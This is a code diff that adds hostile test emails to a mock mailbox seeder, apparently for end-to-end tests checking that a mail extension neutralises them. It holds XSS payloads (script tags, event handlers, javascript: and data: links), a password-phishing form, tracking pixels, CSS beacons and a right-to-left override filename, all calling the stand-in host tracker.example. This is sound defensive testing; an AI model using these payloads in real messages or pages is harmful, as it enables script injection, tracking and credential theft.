@@ -281,6 +281,206 @@ const SENT_ONLY = [
   },
 ];
 
+// ---------------------------------------------------------------------------------- hostile mail
+
+/**
+ * Where hostile mail points: a reserved name (RFC 2606) that resolves nowhere, so nothing leaves
+ * the machine even when a client loads it. The extension's end-to-end tests send every
+ * non-loopback request of the browser to a recording proxy and assert that no such URL was
+ * ever asked for. Each path names the trick that would have fetched it.
+ */
+export const TRACKER = 'http://tracker.example';
+
+const T = TRACKER;
+/** What a script would do if it ran: call home, and tell the page that embeds it. */
+const run = (name) => `fetch('${T}/exec/${name}');parent.postMessage('executed:${name}','*');top.postMessage('executed:${name}','*')`;
+
+const SENDERS = {
+  attacker: { name: '"<script>alert(1)</script>" Security Team', email: 'security@evil.example' },
+  promo: { name: 'MegaStore Deals', email: 'deals@megastore.example' },
+  archive: { name: 'Archive Robot', email: 'robot@archive.example' },
+  klingon: { name: 'Kor', email: 'kor@qonos.example' },
+  empty: { name: 'Nobody', email: 'nobody@void.example' },
+};
+
+let largeBody = null;
+/** A 2 MB HTML body, built once on first use (never stored in the data file). */
+function large() {
+  if (largeBody) return largeBody;
+  const rows = [];
+  let size = 0;
+  for (let i = 1; size < 2 * 1024 * 1024; i++) {
+    const row = `<tr><td>${i}</td><td>2024-01-${String((i % 28) + 1).padStart(2, '0')}</td><td>Archived entry number ${i}: nothing to see here, only a lot of it.</td></tr>\n`;
+    rows.push(row);
+    size += row.length;
+  }
+  largeBody = `<html><body><h1>The complete archive</h1><table border="1">\n${rows.join('')}</table><p id="the-end">The end of the archive.</p></body></html>`;
+  return largeBody;
+}
+
+/**
+ * Messages that try every trick a mail client must survive, and one well-behaved HTML
+ * newsletter. Stored in a mailbox by name (`template`); their bodies are built here on read.
+ * @type {Record<string, {from: keyof SENDERS | keyof PEOPLE, subject: string, bodies: () => Array<{type: string, charset: string, content: string}>}>}
+ */
+export const TEMPLATES = {
+  'html-newsletter': {
+    from: 'weekly',
+    subject: 'The Weekly Byte, HTML edition: signing requests by hand',
+    bodies: () => [
+      {
+        type: 'text/plain',
+        charset: 'UTF-8',
+        content: 'THE WEEKLY BYTE\n\nSigning requests by hand (and why you should not)\n\n1. Percent-encode everything, twice where the RFC says so.\n2. Sort the parameters by their encoded names.\n3. Keep the base string for debugging.\n\nRead online: https://weeklybyte.example/issues/html',
+      },
+      {
+        type: 'text/html',
+        charset: 'UTF-8',
+        content: `<!doctype html><html><head><style>
+  .wrap{max-width:560px;margin:0 auto;font-family:Georgia,serif;color:#222}
+  .masthead{background:#2f6fed;color:#fff;padding:18px 22px;border-radius:8px 8px 0 0}
+  .masthead h1{margin:0;font-size:26px;letter-spacing:.04em}
+  .item{padding:14px 22px;border:1px solid #dde1e8;border-top:0}
+  .item h2{margin:0 0 6px;font-size:18px;color:#1a3f8f}
+  .tag{display:inline-block;background:#e8f0fe;color:#1a3f8f;border-radius:10px;padding:1px 8px;font:12px sans-serif}
+  .foot{font:12px sans-serif;color:#777;padding:10px 22px}
+</style></head><body><div class="wrap">
+<div class="masthead"><h1>THE WEEKLY BYTE</h1><div>Issue 121 &middot; HTML edition</div></div>
+<div class="item"><span class="tag">OAuth</span><h2>Signing requests by hand</h2>
+<p>Percent-encode everything, sort the parameters by their <em>encoded</em> names, and keep the base string: it is the first thing to compare when a server says <code>Invalid signature</code>.</p></div>
+<div class="item"><span class="tag">WebAssembly</span><h2>Wasm at the edge, two years on</h2>
+<p>Cold starts are down, sizes matter more than ever. <a href="https://weeklybyte.example/wasm-edge">Read the article</a>.</p></div>
+<div class="item"><span class="tag">Extensions</span><h2>What host permissions really grant</h2>
+<table style="border-collapse:collapse;font:13px sans-serif"><tr><th style="text-align:left;padding:2px 10px 2px 0">Browser</th><th style="text-align:left">Granted at install</th></tr>
+<tr><td style="padding:2px 10px 2px 0">Chrome</td><td>required hosts</td></tr><tr><td style="padding:2px 10px 2px 0">Firefox</td><td>the person decides</td></tr></table></div>
+<div class="foot">You receive this because you subscribed. <a href="https://weeklybyte.example/u">Unsubscribe</a></div>
+</div></body></html>`,
+      },
+    ],
+  },
+  'inline-scripts': {
+    from: 'attacker',
+    subject: 'Hostile: inline scripts <img src=x onerror=alert(1)>',
+    bodies: () => [{
+      type: 'text/html',
+      charset: 'UTF-8',
+      content: `<html><head><title>Quarterly report</title>
+<meta http-equiv="refresh" content="0;url=${T}/exec/meta-refresh">
+<base href="${T}/base/">
+<link rel="stylesheet" href="${T}/beacon/link-stylesheet.css"><link rel="prefetch" href="${T}/beacon/link-prefetch"><link rel="preload" as="image" href="${T}/beacon/link-preload.png">
+<script>${run('head-script')}</script></head>
+<body><h1>Quarterly report</h1>
+<script>${run('inline-script')};document.title='pwned'</script>
+<script src="${T}/exec/script-src.js"></script>
+<noscript><img src="${T}/beacon/noscript.gif" alt=""></noscript>
+<svg width="10" height="10"><script>${run('svg-script')}</script></svg>
+<iframe src="${T}/beacon/iframe"></iframe>
+<iframe srcdoc="<script>${run('iframe-srcdoc')}</script>"></iframe>
+<object data="${T}/beacon/object"></object><embed src="${T}/beacon/embed">
+<p id="after-scripts">The figures are in the attachment. This line comes after the scripts.</p>
+</body></html>`,
+    }],
+  },
+  'event-handlers': {
+    from: 'attacker',
+    subject: 'Hostile: onerror and onload attributes',
+    bodies: () => [{
+      type: 'text/html',
+      charset: 'UTF-8',
+      content: `<body onload="${run('body-onload')}"><p>Your parcel is waiting.</p>
+<img src="x" onerror="${run('img-onerror')}" alt="broken">
+<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run('img-onload')}" alt="">
+<svg onload="${run('svg-onload')}" width="10" height="10"></svg>
+<details open ontoggle="${run('details-ontoggle')}"><summary>Details</summary>Tracking number 0042</details>
+<input autofocus onfocus="${run('input-onfocus')}" value="focus me">
+<div onmouseover="${run('div-onmouseover')}" style="padding:8px;border:1px solid #ccc">Hover here</div>
+<video><source onerror="${run('video-source-onerror')}"></video>
+<style onload="${run('style-onload')}">p{color:#333}</style>
+</body>`,
+    }],
+  },
+  links: {
+    from: 'attacker',
+    subject: 'Hostile: javascript: and data: links',
+    bodies: () => [{
+      type: 'text/html',
+      charset: 'UTF-8',
+      content: `<p>Please confirm your account.</p>
+<p><a id="js-link" href="javascript:${run('javascript-link')}">Open your invoice</a></p>
+<p><a id="data-link" href="data:text/html;base64,${Buffer.from(`<script>${run('data-link')}</script>`).toString('base64')}">View it online</a></p>
+<p><a id="vbscript-link" href="vbscript:msgbox(1)">Old-school link</a></p>
+<p><a id="top-link" href="${T}/nav/top" target="_top">Log in to keep your account</a></p>
+<p><a id="blank-link" href="${T}/nav/blank" target="_blank">Unsubscribe</a></p>
+<p><a id="self-link" href="${T}/nav/self">Read more</a></p>
+<svg width="120" height="20"><a id="svg-link" xlink:href="javascript:${run('svg-link')}"><text x="0" y="15">SVG link</text></a></svg>
+<form id="phish" action="${T}/exec/form" method="post"><input name="password" type="password" value="hunter2"><button id="phish-submit" type="submit">Verify your account</button></form>
+<p><a href="https://example.org/safe">A harmless link, listed under the message</a></p>`,
+    }],
+  },
+  'tracking-pixel': {
+    from: 'promo',
+    subject: 'Hostile: a remote tracking pixel',
+    bodies: () => [{
+      type: 'text/html',
+      charset: 'UTF-8',
+      content: `<p>Spring deals are here: 20% off everything this week.</p>
+<img id="pixel" src="${T}/pixel.gif?campaign=spring&amp;recipient=you" width="1" height="1" alt="">
+<img id="pixel-srcset" srcset="${T}/pixel.gif?via=srcset 1x" width="1" height="1" alt="">`,
+    }],
+  },
+  'css-beacon': {
+    from: 'promo',
+    subject: 'Hostile: a CSS url() beacon',
+    bodies: () => [{
+      type: 'text/html',
+      charset: 'UTF-8',
+      content: `<style>
+@import url("${T}/beacon/css-import.css");
+.promo{background-image:url('${T}/beacon/css-rule.png');padding:12px;border:1px solid #ccc}
+@font-face{font-family:beacon;src:url(${T}/beacon/css-font.woff)}
+.promo strong{font-family:beacon,sans-serif}
+</style>
+<div class="promo"><strong>Spring sale</strong> with a background image that phones home.</div>
+<div style="background:url(//tracker.example/beacon/css-inline.png);padding:12px">An inline style that does the same.</div>
+<table background="${T}/beacon/table-background.png"><tr><td>An old-fashioned table background.</td></tr></table>`,
+    }],
+  },
+  large: {
+    from: 'archive',
+    subject: 'Hostile: a 2 MB body',
+    bodies: () => [{ type: 'text/html', charset: 'UTF-8', content: large() }],
+  },
+  'unknown-charset': {
+    from: 'klingon',
+    subject: 'Hostile: an unknown charset',
+    bodies: () => [{
+      type: 'text/plain',
+      charset: 'x-klingon-pIqaD',
+      content:
+        "Qapla'! This body declares a character set that nobody knows.\n" +
+        'Bytes that did not decode: \uFFFD\uFFFD\uFFFD.\n' +
+        'Terminal escapes: \u001b[31mred\u001b[0m, a bell \u0007, a C1 control \u009b.\n' +
+        'A right-to-left override that turns a name around: invoice_\u202Efdp.exe\n',
+    }],
+  },
+  'missing-body': {
+    from: 'empty',
+    subject: 'Hostile: a message without a body',
+    bodies: () => [],
+  },
+};
+
+/** Hostile and HTML messages of every seeded mailbox, oldest first after the others. */
+const TEMPLATE_ORDER = ['html-newsletter', 'inline-scripts', 'event-handlers', 'links', 'tracking-pixel', 'css-beacon', 'large', 'unknown-charset', 'missing-body'];
+
+const sizes = new Map();
+/** UTF-8 size of a template body, computed once per body. */
+function byteSize(template, index, content) {
+  const key = `${template}/${index}`;
+  if (!sizes.has(key)) sizes.set(key, Buffer.byteLength(content, 'utf8'));
+  return sizes.get(key);
+}
+
 /**
  * Small deterministic PRNG (sfc32) seeded from a string.
  * @param {string} seed
@@ -335,7 +535,8 @@ function hexId(...parts) {
  * @property {{read: boolean, answered: boolean, flagged: boolean, draft: boolean}} flags
  * @property {string | null} in_reply_to
  * @property {string[]} references
- * @property {string} body Plain-text body.
+ * @property {string} body Plain-text body ('' when `template` gives the bodies).
+ * @property {string} [template] A key of TEMPLATES: the bodies are built from it on read.
  */
 
 /**
@@ -420,6 +621,32 @@ export function seedMailbox(email, created) {
     add({ from: me, to: [person(s.to)], subject: s.subject, body: s.body(), date: created - int(DAY, 26 * DAY), sent: true });
   }
 
+  // The hostile messages and the HTML newsletter: in INBOX, older than everything else. No call
+  // to rand() here, so the rest of the mailbox is what it was before they existed.
+  TEMPLATE_ORDER.forEach((name, k) => {
+    const t = TEMPLATES[name];
+    const from = SENDERS[t.from] ? { ...SENDERS[t.from] } : person(t.from);
+    const date = created - 28 * DAY - (k + 1) * HOUR;
+    const i = messages.length;
+    const id = hexId(key, 'message', i);
+    messages.push({
+      message_id: id.slice(0, 24),
+      email_message_id: `<${name}.${id.slice(24, 32)}@${from.email.split('@')[1]}>`,
+      subject: t.subject,
+      date,
+      date_received: date + 60,
+      from,
+      to: [me],
+      cc: [],
+      folders: [INBOX, ALL],
+      flags: { read: true, answered: false, flagged: false, draft: false },
+      in_reply_to: null,
+      references: [],
+      body: '',
+      template: name,
+    });
+  });
+
   // Newest first, then flags: the most recent inbound messages are unread, a few are starred.
   messages.sort((a, b) => b.date - a.date || a.message_id.localeCompare(b.message_id));
   let unread = int(3, 6);
@@ -482,9 +709,10 @@ export function messageView(m, { includeBody, resourceUrl }) {
     resource_url: resourceUrl,
   };
   if (includeBody) {
-    view.bodies = [
-      { type: 'text/plain', charset: 'UTF-8', size: Buffer.byteLength(m.body, 'utf8'), content: m.body },
-    ];
+    const template = m.template !== undefined ? TEMPLATES[m.template] : undefined;
+    view.bodies = template
+      ? template.bodies().map((b, i) => ({ ...b, size: byteSize(m.template, i, b.content), body_section: String(i + 1) }))
+      : [{ type: 'text/plain', charset: 'UTF-8', size: Buffer.byteLength(m.body, 'utf8'), content: m.body, body_section: '1' }];
   }
   return view;
 }
